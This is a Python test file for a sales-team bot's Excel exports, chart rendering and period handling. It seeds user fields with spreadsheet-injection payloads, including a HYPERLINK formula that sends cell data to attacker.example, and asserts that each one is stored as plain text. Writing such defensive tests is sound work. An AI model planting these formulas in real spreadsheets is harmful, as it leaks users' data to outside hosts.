"""Text people type cannot break an export or a picture: formula-looking values in every user-supplied
column are written as text (no ``<f>`` anywhere in the workbook), numbers stay numbers, and names full of
``$`` draw on the board and the report as typed."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, date, datetime

from openpyxl import load_workbook
from sqlalchemy import update

from domain.enums import Stage, TaskStatus
from storage.models import Client, DayReport, Deal, Lead, Member, Task
from tests.handlers.conftest import TeamWorld

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Нажми")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
DOLLARS = ["Серж $$", "Ва$я $\\frac{1}{0}$ _^ $"]


def formulas(data: bytes) -> list[str]:
    """Every ``<f>`` element in any part of the xlsx (sheets, shared strings, anything)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                found += re.findall(r"<(?:\w+:)?f[ >/]", z.read(name).decode("utf-8"))
    return found


async def hostile_seed(world: TeamWorld) -> None:
    m0, m1 = world.managers
    async with world.pool() as s, s.begin():
        await s.execute(update(Member).where(Member.id == m0.id).values(name=HOSTILE[1]))
        await s.execute(update(Member).where(Member.id == m1.id).values(name=HOSTILE[4]))
        clients = []
        for i, name in enumerate(HOSTILE):
            c = Client(
                team_id=world.team.id,
                owner_id=m0.id,
                name=name,
                name_key=f"hostile{i}",
                stage=Stage.WON,
                notes=HOSTILE[(i + 1) % len(HOSTILE)],
            )
            s.add(c)
            clients.append(c)
        await s.flush()
        for i, c in enumerate(clients):
            s.add(
                Task(
                    team_id=world.team.id,
                    client_id=c.id,
                    assignee_id=m0.id,
                    action=HOSTILE[(i + 2) % len(HOSTILE)],
                    due_date=date(2026, 11, 20),
                    status=TaskStatus.DONE if i % 2 else TaskStatus.NOT_DONE,
                    result=HOSTILE[(i + 3) % len(HOSTILE)],
                    reason=HOSTILE[(i + 4) % len(HOSTILE)],
                )
            )
            s.add(
                Deal(
                    team_id=world.team.id,
                    client_id=c.id,
                    member_id=m0.id,
                    amount=1000 * (i + 1),
                    on_date=date(2026, 11, 10),
                )
            )
            s.add(
                Lead(
                    team_id=world.team.id,
                    client_id=c.id,
                    member_id=m1.id,
                    source=HOSTILE[(i + 5) % len(HOSTILE)],
                    on_date=date(2026, 11, 9),
                )
            )
        s.add(
            DayReport(
                team_id=world.team.id,
                member_id=m0.id,
                on_date=date(2026, 11, 2),
                submitted_at=datetime(2026, 11, 2, 17, 0, tzinfo=UTC),
                planned=3,
                done=2,
            )
        )


def texts_of(wb) -> set[str]:
    return {
        v for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row if isinstance(v, str)
    }


async def test_export_writes_every_hostile_value_as_text(world: TeamWorld) -> None:
    await hostile_seed(world)
    head = world.speaker(world.head)
    preparing, doc = (await head.send("/export")).messages  # "Готовлю файл…", then the file (bot/heavy.py)
    assert preparing.plain_text.startswith("Готовлю файл")
    assert doc.kind == "document"
    assert formulas(doc.data) == []
    wb = load_workbook(io.BytesIO(doc.data))
    # shown as typed: the exact text (XML reads a carriage return back as a line feed), and every
    # formula-looking one quote-prefixed
    assert {h.replace("\r", "\n") for h in HOSTILE} <= {v.replace("\r", "\n") for v in texts_of(wb)}
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r\n":
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
    # numbers stay numbers, dates stay dates
    deals = list(wb["Сделки"].iter_rows(min_row=2, values_only=True))
    assert sorted(r[3] for r in deals) == [1000.0 * (i + 1) for i in range(len(HOSTILE))]
    assert all(isinstance(r[0], datetime) for r in deals)
    tasks = list(wb["Задачи"].iter_rows(min_row=2, values_only=True))
    assert all(isinstance(r[0], int) and isinstance(r[8], int) for r in tasks)
    reports = list(wb["Отчёты дня"].iter_rows(min_row=2, values_only=True))
    assert [(r[2], r[3]) for r in reports] == [(3, 2)]


async def test_the_report_workbook_writes_names_as_text(world: TeamWorld) -> None:
    await hostile_seed(world)
    head = world.speaker(world.head)
    reply = await head.send("/sales_report месяц")
    _, xlsx = (await head.press(reply.messages[-1], "Excel")).messages  # "Готовлю файл…", then the file
    assert formulas(xlsx.data) == []
    wb = load_workbook(io.BytesIO(xlsx.data))
    names = [r[0] for r in wb["Итоги"].iter_rows(min_row=2, values_only=True)]
    assert HOSTILE[1] in names and HOSTILE[4] in names
    summary = {r[0]: r for r in wb["Итоги"].iter_rows(min_row=2, values_only=True)}
    assert summary[HOSTILE[1]][4] == float(sum(1000 * (i + 1) for i in range(len(HOSTILE))))


async def test_names_with_dollars_draw_the_board_and_the_report(world: TeamWorld) -> None:
    m0, m1 = world.managers
    async with world.pool() as s, s.begin():
        for member, name in zip((m0, m1), DOLLARS, strict=True):
            await s.execute(update(Member).where(Member.id == member.id).values(name=name))
        c = Client(team_id=world.team.id, owner_id=m0.id, name="$x^2$", name_key="x2", stage=Stage.WON)
        s.add(c)
        await s.flush()
        s.add(
            Deal(
                team_id=world.team.id, client_id=c.id, member_id=m0.id, amount=5000, on_date=date(2026, 11, 5)
            )
        )
    head = world.speaker(world.head)
    board = await head.send("/board")
    _, photo, text = board.messages  # "Готовлю картинку…", then the picture and the text
    assert photo.kind == "photo" and photo.data[:4] == b"\x89PNG"
    assert DOLLARS[0] in text.plain_text and DOLLARS[1] in text.plain_text
    report = await head.send("/sales_report месяц")
    assert report.messages[1].kind == "photo"  # after "Готовлю картинку…"
    assert DOLLARS[1] in report.messages[-1].plain_text


async def test_periods_out_of_range_get_the_period_help(world: TeamWorld) -> None:
    head = world.speaker(world.head)
    for command in ("/board 9999-12", "/sales_report 9999-12", "/export 9999-12", "/board 1900-01"):
        reply = await head.send(command)
        assert "Не понял период" in reply.text and "2026-10" in reply.text, command
        assert "Что-то пошло не так" not in reply.text


async def test_a_picture_that_cannot_be_drawn_leaves_the_text(world: TeamWorld, monkeypatch) -> None:
    """Whatever breaks the drawing, /board, /sales_report and the scheduled report still send the text."""
    import reports.board
    from bot.i18n import default_translator
    from handlers.sales import compose_weekly
    from scheduler.compose import ComposeContext
    from storage.models import Team
    from storage.repo import Repo

    def broken(*args: object, **kwargs: object) -> bytes:
        raise ValueError("Unknown symbol: \\frac")

    monkeypatch.setattr(reports.board, "render_board_png", broken)  # the jobs run in threads in tests
    head = world.speaker(world.head)
    board = await head.send("/board")
    assert [m.kind for m in board.messages] == ["text", "text"]  # "Готовлю картинку…", then the text
    assert "Доска результатов" in board.messages[1].plain_text
    report = await head.send("/sales_report месяц")
    assert all(m.kind == "text" for m in report.messages) and len(report.messages) >= 2
    assert "Отчёт: ноябрь 2026" in report.messages[-1].plain_text

    t = default_translator().get("ru")
    async with world.pool() as s:
        team = await s.get(Team, world.team.id)
        assert team is not None
        ctx = ComposeContext(Repo(s), team, world.head, date(2026, 11, 27), t, world.clock)  # a Friday
        out = await compose_weekly(ctx)
    assert out and all(o.photo is None for o in out)
    assert "Отчёт" in out[0].text
